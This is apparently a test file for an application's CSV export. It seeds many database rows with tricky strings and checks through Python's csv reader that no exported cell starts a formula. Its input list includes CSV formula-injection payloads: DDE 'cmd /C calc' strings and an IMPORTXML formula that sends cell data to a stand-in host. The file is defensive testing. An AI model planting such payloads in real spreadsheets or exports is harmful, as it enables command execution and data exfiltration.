// S4: no cell of an export is a formula, and every row reads back as it was written, by another program: Python's `csv`.
//
// The rows are those of real submissions, many times over in the desk's own file, each with other texts: what begins a formula in any
// spreadsheet, quotes, separators, ends of lines, and letters of all kinds, in any order. The control takes the sign away that
// makes text of a cell.

import { execFile } from "node:child_process";
import { createWriteStream } from "node:fs";
import { readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { pipeline } from "node:stream/promises";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { DatabaseSync } from "@photostructure/sqlite";

import { deskFile } from "../support/desk-file.mjs";
import { temporaryFolder } from "../support/package.mjs";
import { promise } from "../support/promise.mjs";
import { inquiry, startUsher } from "../support/usher.mjs";

const READER = fileURLToPath(new URL("../support/reads_csv.py", import.meta.url));
const ROWS = [3_000, 100_000];
const STARTS = [
  "=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ",", ";", " ", "", "=1+1", "=cmd|' /C calc'!A0", "+1-2", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)", "=HYPERLINK(\"https://x.example\",\"a\")",
  "\t=1", "\r\n=1", "=IMPORTXML(CONCAT(\"https://x.example/?\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\")", "\u00a0=1", "\uff1d1+1", "\ufeff=1", "%0A=1", "0x1", "1e9", "=\"\"",
];
const PIECES = [
  ",", '"', '""', "\r\n", "\n", "\r", ";", "\t", "'", "=", "|", "é", "李", "😀", "محمد", "a", "Which plan fits?", " ", "\u2028", "\\", "\\n", "</td>", "NULL", "-1", "Σ", "\u202e", "e\u0301",
];

async function check({ full, random, control, note, atEnd }) {
  const folder = await temporaryFolder("usher-s04-");
  atEnd(() => rm(folder, { recursive: true, force: true }));
  const usher = await startUsher({ args: ["--faults"] });
  atEnd(() => usher.stop());
  const values = { company: "Ruiz Books" };
  if ((await usher.submit("inquiry", inquiry(values))).status !== 200) throw new Error("not taken");
  await usher.kill9();
  const written = fill(new DatabaseSync(await deskFile(usher.data)), ROWS[Number(full)], random);
  await writeFile(join(folder, "written.ndjson"), written.map((row) => `${JSON.stringify(row)}\n`).join(""));
  note(`${written.length} rows stand in the desk`);

  await usher.start();
  const mara = await usher.signIn("mara");
  const started = performance.now();
  const response = await usher.fetch("/v1/console/export/items.csv", { headers: { cookie: mara.cookie } });
  if (response.status !== 200) throw new Error(`${response.status} ${await response.text()}`);
  const file = join(folder, "items.csv");
  await pipeline(response.body, createWriteStream(file));
  note(`exported in ${((performance.now() - started) / 1_000).toFixed(1)} s`);
  if (control) await writeFile(file, (await readFile(file, "utf8")).replaceAll(/([,\n]"?)'([=+@-])/g, "$1$2"));
  const { stdout } = await promisify(execFile)("python3", [READER, file, join(folder, "written.ndjson")], { maxBuffer: 1e8 });
  const read = JSON.parse(stdout);
  if (read.examples.length) note(read.examples.join("; "));
  return {
    met: read.rows >= written.length && [read.formulas, read.others, read.ragged, read.missing].every((count) => count === 0),
    figure:
      `${read.rows} rows, ${read.cells} cells read by Python's csv: ${read.formulas} begin a formula, ${read.others} are another text than was written but for the sign, ` +
      `${read.missing} rows missing, ${read.ragged} of another length`,
  };
}

/** Makes so many rows of the one that is there, with texts of their own; what a reader has to find, by column. The first one's row is left as it is. */
function fill(database, count, random) {
  const text = () => {
    let text = random.pick(STARTS);
    for (let left = random.below(6); left > 0; left -= 1) text += random.pick(PIECES);
    return text;
  };
  const item = database.prepare("SELECT * FROM item").get();
  const submission = database.prepare("SELECT * FROM submission WHERE id = ?").get(item.submission_id);
  const person = database.prepare("SELECT * FROM person WHERE id = ?").get(item.person_id);
  const identifier = database.prepare("SELECT * FROM identifier WHERE person_id = ? AND kind = 'email'").get(item.person_id);
  const copies = { item, submission, person, identifier };
  const add = Object.fromEntries(Object.entries(copies).map(([table, row]) => [table, database.prepare(`INSERT INTO ${table} (${Object.keys(row)}) VALUES (${Object.keys(row).map(() => "?")})`)]));
  const insert = (table, change) => add[table].run(...Object.values({ ...copies[table], ...change }));
  const pairs = JSON.parse(submission.vals);
  const rows = [];
  database.exec("BEGIN");
  for (let at = 0; at < count; at += 1) {
    const id = `rig${String(at).padStart(8, "0")}`;
    const [name, email, company, asked, summary, outcome] = Array.from({ length: 6 }, text);
    // Columns of SQLite's end at a zero; what is kept as JSON does not.
    const message = random() < 0.1 ? `${asked}\u0000${asked}` : asked;
    const vals = pairs.map(([field, value]) => [field, { name, email, company, message }[field] ?? value]);
    insert("person", { id, name });
    insert("identifier", { person_id: id, key: id, typed: email });
    insert("submission", { id, item_id: id, vals: JSON.stringify(vals) });
    insert("item", { id, submission_id: id, person_id: id, summary, owner: text(), reference: id, outcome });
    rows.push({ item_id: id, name, email, summary, outcome, "values.name": name, "values.email": email, "values.company": company, "values.message": message });
  }
  database.exec("COMMIT");
  database.close();
  const first = Object.fromEntries(pairs.filter(([field]) => ["company", "message"].includes(field)).map(([field, value]) => [`values.${field}`, value]));
  return [...rows, { item_id: item.id, ...first }];
}

await promise("S4", check, { controls: ["without-sign"] });
